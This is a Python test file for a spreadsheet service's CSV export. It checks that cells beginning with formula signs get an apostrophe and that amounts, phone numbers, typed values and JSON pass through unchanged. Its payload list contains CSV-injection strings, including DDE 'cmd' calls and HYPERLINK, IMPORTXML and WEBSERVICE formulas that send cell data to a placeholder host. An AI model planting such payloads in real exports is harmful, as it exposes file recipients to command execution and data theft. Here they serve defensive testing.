"""Texts in CSV that spreadsheet programs take for formulas: which get an apostrophe."""

import csv
import io
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from tests.fakes import Formatted, Held
from tests.surfaces.stage import KEYS, Surface, open_surface

PAYLOADS: Sequence[str] = (
    *("=", "=1", "=1+1", "==1", "= 1", "=A1", '="x"', "=TRUE", "=-1", "=+1", "={1;2}", "=1/0"),
    *("=SUM(A1:A9)", "=NOW()", "=cmd|' /C calc'!A0", '=HYPERLINK("https://x/?"&A2,"click")'),
    *("=IMPORTXML(CONCAT(\"https://x/\",A1),\"//a\")", "=\nA1", "=ä", "=DDE(\"a\";\"b\";\"c\")"),
    *("=WEBSERVICE(\"https://x\")", "=IMAGE(\"https://x\")", "=1,2", "=\"a\"\"b\"", "=x\r\ny"),
    *("@", "@1", "@x", "@SUM(1,2)", "@ada", "@:", "@\t"),
    *("\t", "\t1", "\t=1+1", "\ttext", "\t-1", "\r", "\r1", "\r=1+1", "\r\n=1", "\rtext"),
    *("+A1", "+cmd|' /C calc'!A0", "+SUM(A1)", "+1(2)", "+1!2", "+1|2", "+1=2", "+ä", "+e"),
    *("-A1", "-cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1(2)", "-1!2", "-1|2", "-1=1"),
    *("-x", "-SUM(A1)", "-@x", "-12h", "- a list item", "+1E5", "-Ж"),
)  # fmt: skip
"""Texts that begin with a formula sign. After `+` and `-` a letter or a sign follows."""

HONEST: Sequence[str] = (
    *("-5.00", "-5", "-0.5", "-1,234.50", "-$5.00", "-5%", "-", "--", "---", "-1-2", "-1+2"),
    *("+44 20 7946", "+44 163 2960000", "+1-800-555-0100", "+5", "+", "++", "+1.5", "+49/30/12"),
    *("text", "a=b", "1=1", "me@example.org", "x@", "1+1", "1-1", "'=1", "' text", " =1", " @x"),
    *("\u00a0=1", "007", "2026-02-01", "(5.00)", "$5", "#N/A-like", "% off", "/a", "*x", "!x"),
    *("\uff1d1", "a\tb", "a\r\nb", "\n=1", "\u2212A1", '"=1"'),
)  # fmt: skip

NOT_TEXTS: Sequence[Formatted | bool | float] = (
    Formatted(-5, "-5 kg"),
    Formatted(5, "+5 (net)"),
    Formatted(-1234.5, "-1.234,50 kr"),
    Formatted(-120000, "-120K"),
    Formatted(1, "@1"),
    Formatted(7, "=7"),
    Formatted(-0.5, "-12h 0m"),
    Formatted(46054.4375, "-1 Feb 2026"),
    True,
    Formatted(True, "+yes"),
    Formatted(False, "=no"),
    -1e21,
)
"""Numbers, dates and booleans whose displayed text looks like a formula."""


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Surface]:
    settings = {"cache.rows_ttl_seconds": 600, "cache.header_ttl_seconds": 600}
    with open_surface(tmp_path_factory.mktemp("formulas"), KEYS, settings) as surface:
        yield surface


def exported(surface: Surface, cells: Sequence[Held], query: str) -> list[list[str]]:
    """Return the lines of an export of one column, or the header line of its fields."""
    title = f"F{len(surface.sheets.worksheets)}"
    surface.sheets.add(title, [["id", "cell"], *([at, cell] for at, cell in enumerate(cells))])
    answer = surface.send("GET", f"{title}?format=csv{query}")
    assert answer.status_code == 200, answer.content
    return [*csv.reader(io.StringIO(answer.content.decode(), newline=""))]


WAYS = ["", "&values=typed", "&order=id", "&order=-id&values=typed"]


def cells_of(lines: Sequence[Sequence[str]]) -> list[str]:
    return [cell for _, cell in sorted((int(line[1]), line[2]) for line in lines[1:])]


def test_there_are_payloads_enough() -> None:
    """The tables have at least 60 texts to guard and 40 other texts."""
    assert len({*PAYLOADS}) == len(PAYLOADS) >= 60
    assert len({*HONEST}) == len(HONEST) >= 40


@pytest.mark.parametrize("way", WAYS)
def test_formulas_get_an_apostrophe(opened: Surface, way: str) -> None:
    """A text that spreadsheet programs can run gets an apostrophe."""
    assert cells_of(exported(opened, PAYLOADS, way)) == [f"'{text}" for text in PAYLOADS]


@pytest.mark.parametrize("way", WAYS)
def test_honest_texts_stay(opened: Surface, way: str) -> None:
    """Amounts, phone numbers and all other texts are exported unchanged."""
    assert cells_of(exported(opened, HONEST, way)) == [*HONEST]


@pytest.mark.parametrize("way", ["", "&order=id"])
def test_cells_that_are_no_texts_stay(opened: Surface, way: str) -> None:
    """The class of a cell decides, not only its displayed text."""
    shown = [
        each.text if isinstance(each, Formatted) else "TRUE" if each is True else "-1E+21"
        for each in NOT_TEXTS
    ]
    found = cells_of(exported(opened, [*NOT_TEXTS, "-5 kg"], way))

    assert found[: len(shown) - 1] == shown[:-1]
    assert found[-1] == "'-5 kg"
    assert not any(cell.startswith("'") for cell in found[:-1])


def test_typed_cells_that_are_no_texts_stay(opened: Surface) -> None:
    """Typed cells that are not texts stay unchanged, for example durations."""
    cells: Sequence[Held] = [Formatted(-0.5, "-12:00:00"), -5, Formatted(-1, "-24:00:00"), "-PT12H"]

    assert cells_of(exported(opened, cells, "&values=typed")) == [
        "-PT12H",
        "-5",
        "-PT24H",
        "'-PT12H",
    ]


@pytest.mark.parametrize("values", ["displayed", "typed"])
def test_field_names_are_texts(opened: Surface, values: str) -> None:
    """The header line is guarded like the cells, and only selected fields are checked."""
    names = [name for name in (*PAYLOADS, *HONEST) if name.strip() and "\n" not in name]
    title = f"H{values}"
    opened.sheets.add(title, [names, ["x"] * len(names)])
    whole = opened.send("GET", f"{title}?format=csv&values={values}")
    raw = opened.send("GET", f"{title}?format=csv&formulas=raw&values={values}")
    (header, *_), (raw_header, *_) = (
        [*csv.reader(io.StringIO(each.content.decode(), newline=""))] for each in (whole, raw)
    )

    assert header[1:] == [f"'{name}" if name in PAYLOADS else name for name in names]
    assert raw_header[1:] == names


@pytest.mark.parametrize("way", WAYS)
def test_raw_formulas_stay(opened: Surface, way: str) -> None:
    """`formulas=raw` turns the guard off."""
    assert cells_of(exported(opened, PAYLOADS, f"{way}&formulas=raw")) == [*PAYLOADS]


@pytest.mark.parametrize("form", ["ndjson", "json"])
@pytest.mark.parametrize("values", ["displayed", "typed"])
def test_json_is_never_changed(opened: Surface, form: str, values: str) -> None:
    """JSON exports are never changed, because JSON has no formulas."""
    title = f"J{form}{values}"
    opened.sheets.add(title, [["=cell"], *([text] for text in PAYLOADS)])
    answer = opened.send("GET", f"{title}?format={form}&values={values}")

    assert b"'=" not in answer.content
    assert b'"=cell":"=cmd|' in answer.content


def test_many_texts_are_guarded_one_by_one(tmp_path: Path) -> None:
    """Texts are guarded one by one in each block, among cells of all classes."""
    cells: Sequence[Held] = [
        "=1+1" if at % 701 == 0 else Formatted(-at, f"-{at} kg") if at % 7 == 0 else f"x{at}"
        for at in range(3000)
    ]
    with open_surface(tmp_path) as surface:
        found = cells_of(exported(surface, cells, ""))

    assert [at for at, cell in enumerate(found) if cell.startswith("'")] == [*range(0, 3000, 701)]
